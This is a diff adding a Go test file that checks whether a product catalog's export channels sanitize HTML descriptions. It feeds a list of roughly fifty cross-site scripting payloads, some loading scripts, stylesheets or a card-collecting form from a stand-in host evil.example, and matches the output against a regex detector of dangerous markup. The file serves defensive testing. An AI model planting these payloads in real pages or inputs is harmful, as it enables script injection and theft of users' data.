@@ -1,0 +1,124 @@
+package exporttest
+
+import (
+	"fmt"
+	"regexp"
+	"strings"
+	"testing"
+
+	"tradewind.app/catalog"
+	"tradewind.app/export"
+)
+
+// evil are descriptions that run, load, cover or lead away: a page that shows one of
+// them as it is gives its reader away.
+var evil = []string{
+	`<script>alert(1)</script>`,
+	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
+	`<script >alert(1)</script >`,
+	`<img src=x onerror=alert(1)>`,
+	`<img src="x" onerror = "alert(1)">`,
+	`<p onclick="alert(1)">a</p>`,
+	`<p ONMOUSEOVER='alert(1)'>a</p>`,
+	`<p/onclick=alert(1)>a</p>`,
+	`<svg onload=alert(1)>`,
+	`<svg><script>alert(1)</script></svg>`,
+	`<math><mi xlink:href="javascript:alert(1)">a</mi></math>`,
+	`<iframe src="https://evil.example/"></iframe>`,
+	`<iframe src="javascript:alert(1)"></iframe>`,
+	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+	`<object data="https://evil.example/x.swf"></object>`,
+	`<embed src="https://evil.example/x.swf">`,
+	`<applet code="Evil.class"></applet>`,
+	`<form action="https://evil.example/"><input name="card"></form>`,
+	`<input autofocus onfocus=alert(1)>`,
+	`<button formaction="javascript:alert(1)">a</button>`,
+	`<a href="javascript:alert(1)">a</a>`,
+	`<a href="JaVaScRiPt:alert(1)">a</a>`,
+	`<a href="&#106;avascript:alert(1)">a</a>`,
+	`<a href="java	script:alert(1)">a</a>`,
+	`<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>`,
+	`<a href="vbscript:msgbox(1)">a</a>`,
+	`<img src="javascript:alert(1)">`,
+	`<link rel="stylesheet" href="https://evil.example/x.css">`,
+	`<style>body{background:url(https://evil.example/)}</style>`,
+	`<style>@import "https://evil.example/x.css";</style>`,
+	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+	`<base href="https://evil.example/">`,
+	`<body onload=alert(1)>`,
+	`<div style="background:url(javascript:alert(1))">a</div>`,
+	`<div style="width:expression(alert(1))">a</div>`,
+	`<div style="behavior:url(#default#time2)">a</div>`,
+	`<div style="-moz-binding:url(https://evil.example/x.xml#a)">a</div>`,
+	`<div style="background:\75rl(https://evil.example/)">a</div>`,
+	`<div style="position:fixed;top:0;left:0;width:100%;height:100%">a</div>`,
+	`<div style="margin-left:-9999px">a</div>`,
+	`<video src=x onerror=alert(1)></video>`,
+	`<audio src=x onerror=alert(1)></audio>`,
+	`<details open ontoggle=alert(1)>a</details>`,
+	`<marquee onstart=alert(1)>a</marquee>`,
+	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+	`<p>a</p><img src=x onerror=alert(1)`,
+	`<!--[if IE]><script>alert(1)</script><![endif]-->`,
+	`<![CDATA[<script>alert(1)</script>]]>`,
+	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
+	`<template><script>alert(1)</script></template>`,
+	`&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;`,
+	`<xmp><img src=x onerror=alert(1)></xmp>`,
+	`<table background="javascript:alert(1)"><tr><td>a</td></tr></table>`,
+}
+
+// harm finds in HTML what a browser would run or fetch, or what covers the page.
+var harm = regexp.MustCompile(`(?is)<\s*/?\s*(script|style|iframe|object|embed|applet|form|input|button|svg|math|link|meta|base|body|template|video|audio|marquee|details|noscript)\b` +
+	`|<[^>]*[\s/]on\w+\s*=|(javascript|vbscript|data)\s*:|java\s+script:|url\s*\(|expression\s*\(|behavior\s*:|binding\s*:|position\s*:|:\s*-\d|srcdoc|<!|<[^>]*$`)
+
+// evilIsTamed holds that no description reaches a file with what harms: as HTML where
+// the channel takes HTML, as text where it takes text.
+func evilIsTamed(t *testing.T, c *export.Channel) {
+	column := descriptionColumn(c)
+	if column < 0 {
+		t.Skip("the channel has no column of the description")
+	}
+	opts := Options()
+	opts.All = true
+	for i, text := range evil {
+		p := lotion()
+		p.ID, p.Handle = catalog.ID(fmt.Sprint("evil-", i)), fmt.Sprint("evil-", i)
+		listing(p, p.Title, "<p>before</p>"+text+"<p>after</p>")
+		p.Description = p.Listings[0].Description
+		view := preview(t, c, opts, p)
+		if len(view.Rows) == 0 {
+			continue // left out: nothing of it goes anywhere
+		}
+		got := view.Rows[0][column]
+		if found := harm.FindString(got); found != "" && !(isEscaped(text) && takesHTML(c, column)) {
+			t.Errorf("%s goes out as %s: %q", text, got, found)
+		}
+		if !strings.Contains(got, "before") {
+			t.Errorf("%s took the text before it along: %q", text, got)
+		}
+	}
+}
+
+// isEscaped reports whether a text is evil only to a reader that resolves it twice. As
+// HTML it is harmless and stays.
+func isEscaped(text string) bool { return strings.HasPrefix(text, "&lt;") }
+
+// takesHTML reports whether a column carries HTML: what makes text of it says so.
+func takesHTML(c *export.Channel, column int) bool {
+	for _, transform := range c.Spec().Columns[column].Transforms {
+		if transform.String() == "strip-html" {
+			return false
+		}
+	}
+	return true
+}
+
+func descriptionColumn(c *export.Channel) int {
+	for i, column := range c.Spec().Columns {
+		if name := column.From.String(); name == "description" || strings.HasPrefix(name, "description@") {
+			return i
+		}
+	}
+	return -1
+}
